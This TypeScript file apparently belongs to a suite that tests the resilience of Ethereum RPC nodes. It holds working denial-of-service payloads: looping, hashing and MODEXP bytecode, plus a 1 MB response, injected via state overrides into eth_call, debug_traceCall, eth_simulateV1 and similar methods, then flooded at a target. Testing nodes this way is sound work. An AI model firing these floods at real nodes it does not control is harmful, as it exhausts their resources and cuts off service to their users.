/** Calls that compute for the maximum time. */
import type { Attack } from './attack.ts'
import { call, flood, hex, same } from './flood.ts'

const LOOPING = '0x00000000000000000000000000000000000000aa'
const PLAIN = '0x5b600056'
/** Loops over KECCAK256 of 24 kB. */
const HASHING = '0x5b61600060002050600056'
/** Loops over MODEXP (5) with a base and a modulus of 1 kB and an exponent of 32 bytes. */
const MODEXP = [
  ...['0x5b', '610400600052', '6020602052', '610400604052', '5f19606052', '5f1961046052', '5f1961048052'],
  ...['60006000', '610880', '6000', '6005', '5afa50600056'],
].join('')
/** Returns 1 MB of zeros. */
const LONG_ANSWER = '0x620f42406000f3'
const GAS = hex(50_000_000)

const request = { to: LOOPING, gas: GAS }
const withCode = (code: string): object => ({ [LOOPING]: { code } })

/** Endless loops must not succeed. */
const ENDLESS = /^ok/

/** Attacks on the threads that execute. */
export const executionAttacks: readonly Attack[] = [
  ...[
    { name: 'loop: eth_call', code: PLAIN },
    { name: 'loop: eth_call, hashing', code: HASHING },
    { name: 'loop: eth_call, modexp', code: MODEXP },
  ].map(({ name, code }): Attack => {
    const body = call('eth_call', [request, 'latest', withCode(code)])
    return { name, forbidden: ENDLESS, run: (target) => flood(target, same(body)) }
  }),
  {
    name: 'loop: eth_estimateGas',
    forbidden: ENDLESS,
    run: (target) => flood(target, same(call('eth_estimateGas', [request, 'latest', withCode(PLAIN)]))),
  },
  {
    name: 'loop: eth_createAccessList',
    run: (target) => flood(target, same(call('eth_createAccessList', [{ input: PLAIN, gas: GAS }]))),
  },
  {
    name: 'loop: trace_call, vmTrace',
    run: (target) =>
      flood(target, same(call('trace_call', [{ input: PLAIN, gas: GAS }, ['trace', 'vmTrace'], 'latest']))),
  },
  {
    name: 'loop: debug_traceCall',
    run: (target) =>
      flood(target, same(call('debug_traceCall', [request, 'latest', { stateOverrides: withCode(PLAIN) }]))),
  },
  {
    name: 'loop: eth_simulateV1',
    run: (target) => {
      const blocks = Array.from({ length: 16 }, () => ({ calls: [{ ...request, gas: hex(3_000_000) }] }))
      blocks[0] = { ...blocks[0]!, ...{ stateOverrides: withCode(PLAIN) } }
      flood(target, same(call('eth_simulateV1', [{ blockStateCalls: blocks }])))
    },
  },
  {
    name: 'eth_call, answers of 2 MB',
    run: (target) => flood(target, same(call('eth_call', [request, 'latest', withCode(LONG_ANSWER)]))),
  },
  {
    name: 'loop: eth_call, an address each',
    forbidden: ENDLESS,
    run: (target) => {
      const body = call('eth_call', [request, 'latest', withCode(PLAIN)])
      flood(target, { body: () => body, isManyAddresses: true, connections: 64 })
    },
  },
]
